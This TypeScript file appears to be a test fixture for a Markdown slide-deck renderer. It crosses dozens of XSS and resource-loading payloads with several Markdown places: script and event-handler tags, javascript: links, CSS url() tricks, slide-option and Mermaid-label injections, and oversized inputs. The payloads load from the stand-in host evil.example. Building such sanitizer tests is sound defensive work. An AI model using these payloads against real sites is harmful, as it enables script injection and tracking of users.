// cspell:ignore Njcmlwd includegraphics
/** Decks of an attacker: every payload in every place. Each tries to set `ran` or to load from `evil.example`. */

/** Script of the payloads. It leaves a mark on the page. */
const script = "document.documentElement.dataset.ran='1'"
const evil = 'https://evil.example'

/** HTML and Markdown that runs a script, loads something, or leaves the slide. */
const payloads: readonly string[] = [
  `<script>${script}</script>`,
  `<ScRiPt src=${evil}/a.js></sCrIpT>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<img src=x onerror="${script}">`,
  `<img src=${evil}/a.png onload="${script}">`,
  `<img/src="x"/onerror=${script}>`,
  `<img srcset="${evil}/a.png 1x">`,
  `<svg onload="${script}"></svg>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  `<svg><use href="${evil}/a.svg#a"></use></svg>`,
  `<math><mtext><style><img src=x onerror="${script}"></style></mtext></math>`,
  `<math href="javascript:${script}">a</math>`,
  `<iframe src="javascript:parent.${script}"></iframe>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<iframe src="${evil}"></iframe>`,
  `<object data="${evil}/a.svg"></object>`,
  `<embed src="${evil}/a.svg">`,
  `<video src="${evil}/a.mp4" onerror="${script}" autoplay></video>`,
  `<audio src=x onerror="${script}">`,
  `<details open ontoggle="${script}">a</details>`,
  `<body onload="${script}">`,
  `<input autofocus onfocus="${script}">`,
  `<form action="${evil}"><button formaction="javascript:${script}">a</button></form>`,
  `<a href="javascript:${script}" id=a>a</a>`,
  `<a href="java&#9;script:${script}">a</a>`,
  `<a href="data:text/html,<script>${script}</script>">a</a>`,
  `[a](javascript:${script})`,
  `![a](javascript:${script})`,
  `![a](${evil}/a.png)`,
  `![a](data:text/html;base64,PHNjcmlwdD4=)`,
  `<link rel=stylesheet href="${evil}/a.css">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  `<style>@import url(${evil}/a.css); * { background: url(${evil}/b.png) }</style>`,
  `<style>@import "${evil}/a.css";</style>`,
  `<style>@font-face { font-family: a; src: url(${evil}/a.woff) } * { font-family: a }</style>`,
  `<style>* { background: \\75rl(${evil}/c.png); list-style: image-set("${evil}/d.png" 1x) }</style>`,
  `<style>body { display: none } .bar, .reveal { position: fixed; inset: 0; z-index: 9999 }</style>`,
  `<style></style><script>${script}</script></style>`,
  `<p style="background: url(${evil}/e.png)">a</p>`,
  `<p style="background: u\\rl(${evil}/f.png)">a</p>`,
  `<p style="background-image: -webkit-cross-fade(url(${evil}/g.png), url(x), 50%)">a</p>`,
  `<p style="position: fixed; inset: 0; width: expression(${script})">a</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<template><img src=x onerror="${script}"></template>`,
  `<textarea></textarea><img src=x onerror="${script}">`,
  `<xmp><img src=x onerror="${script}"></xmp>`,
  `<!--><img src=x onerror="${script}">-->`,
  `<![CDATA[><img src=x onerror="${script}">]]>`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `&lt;img src=x onerror="${script}"&gt;`,
  `<section data-background-iframe="${evil}"><img src=x onerror="${script}"></section>`,
  `<section data-markdown><script type="text/template">${script}</script></section>`,
  `<div id="minutes-deck" class="reveal slides exported" data-style="background:url(${evil}/h.png)">a</div>`,
  `<img data-image="${evil}/i.png" data-src="${evil}/j.png">`,
  `<div data-background-image="${evil}/k.png" data-src="${evil}/l.png">a</div>`,
  `<portal src="${evil}"></portal>`,
  `<marquee onstart="${script}">a</marquee>`,
  `<table background="${evil}/m.png"><tr><td background="${evil}/n.png">a</td></tr></table>`,
  `[name=<img src=x onerror="${script}">]`,
  `{%pdf javascript:${script} %}`,
  `{%youtube "><img src=x onerror=${script}> %}`,
  `$\\href{javascript:${script}}{a}$ $\\includegraphics{${evil}/o.png}$`,
  `$$\\htmlData{a=b}{<img src=x onerror="${script}">}$$`,
]

/** Where a payload can be. */
const places: Readonly<Record<string, (payload: string) => string>> = {
  paragraph: (payload) => `a\n\n${payload}\n\nb`,
  'list item': (payload) => `- a ${payload}\n  - b`,
  heading: (payload) => `# ${payload}`,
  'table cell': (payload) => `| a |\n|---|\n| ${payload.replaceAll('|', '\\|')} |`,
  notes: (payload) => `# A\n\nNote: ${payload}`,
}

/** Comments that set attributes: values that load something or take classes of the page. */
const attributes: readonly string[] = [
  `onclick="${script.replaceAll('"', "'")}"`,
  `data-background-iframe="${evil}"`,
  `data-background-video="${evil}/a.mp4"`,
  `data-background-image="${evil}/a.png"`,
  `data-background="${evil}/a.png"`,
  `data-background="url(${evil}/a.png)"`,
  `data-background-color="u\\72l(${evil}/a.png)"`,
  `data-background-size="image-set(${evil}/a.png)"`,
  `data-background-image="javascript:${evil}"`,
  `style="background: url(${evil}/a.png)"`,
  `style="background: \\75\\72\\6c(${evil}/a.png)"`,
  `style="position: fixed; inset: 0"`,
  `class="reveal slides present past" id="minutes-deck"`,
  `data-state="preview speaker exported vscode-dark"`,
  `data-src="${evil}/a.png" data-autoplay="1"`,
]

const options: readonly string[] = [
  `parallaxBackgroundImage: "${evil}/a.png"`,
  `parallaxBackgroundImage: "a.png), url(${evil}/b.png"`,
  `parallaxBackgroundImage: "javascript:${script}"`,
  `parallaxBackgroundSize: "1px; background: url(${evil}/c.png)"`,
  `theme: "../../../evil"`,
  `transition: "<img src=x onerror=${script}>"`,
  `__proto__: { theme: white }`,
  `dependencies: [{ src: "${evil}/a.js" }]`,
  `width: "100%; background: url(${evil}/d.png)"`,
  `keyboard: { 13: "${script}" }`,
]

/** Diagrams whose labels are HTML. */
const labels: readonly string[] = [
  `graph TD\n  a["<img src=x onerror=${script}>"]`,
  `graph TD\n  a["<script>${script}</script>"] --> b`,
  `graph TD\n  a --> b\n  click a href "javascript:${script}"`,
  `graph TD\n  a --> b\n  style a fill:url(${evil}/a.png)`,
  `%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n  a["<img src=x onerror=${script}>"]`,
  `%%{init: {"themeCSS": "* { background: url(${evil}/b.png) }"}}%%\ngraph TD\n  a --> b`,
  `sequenceDiagram\n  A->>B: <img src=x onerror=${script}>`,
  `pie title <img src=${evil}/c.png>\n  "a" : 1`,
  `graph TD\n  a["<iframe src=${evil}></iframe>"]`,
  `graph TD\n  a["<svg onload=${script}>"]`,
  `classDiagram\n  class A["<img src=x onerror=${script}>"]`,
]

/** Long inputs that must not block. */
const long: readonly string[] = [
  '$a'.repeat(50_000),
  `![a](data:image/png;base64,${'A'.repeat(5_000_000)})`,
  '['.repeat(20_000),
  '<div>'.repeat(5_000),
  '> '.repeat(2_000) + 'a',
  '*a '.repeat(20_000),
  `[name=${'a'.repeat(50_000)}`,
  '<!-- .slide: ' + 'a="b" '.repeat(20_000),
  '{%youtube '.repeat(10_000),
  '\n\n---\n'.repeat(2_000),
]

/** A hostile deck, with a name that describes it. */
export interface HostileDeck {
  readonly name: string
  readonly text: string
}

const front = '---\ntype: slide\n---\n\n'

/** All combinations, without those of long inputs. */
export const hostileDecks: readonly HostileDeck[] = [
  ...Object.entries(places).flatMap(([place, put]) =>
    payloads.map((payload) => ({ name: `${place}: ${payload}`, text: `${front}${put(payload)}\n` })),
  ),
  ...['slide:', 'element'].flatMap((target) =>
    attributes.map((attribute) => ({
      name: `.${target} ${attribute}`,
      text: `${front}# A\n\n<!-- .${target} ${attribute} -->\n`,
    })),
  ),
  ...options.map((option) => ({ name: option, text: `---\ntype: slide\nslideOptions:\n  ${option}\n---\n\n# A\n` })),
  ...labels.map((label) => ({ name: label, text: `${front}\`\`\`mermaid\n${label}\n\`\`\`\n` })),
]

export const longDecks: readonly HostileDeck[] = long.map((text) => ({
  name: `${text.slice(0, 20)}… (${text.length})`,
  text: `${front}${text}\n`,
}))
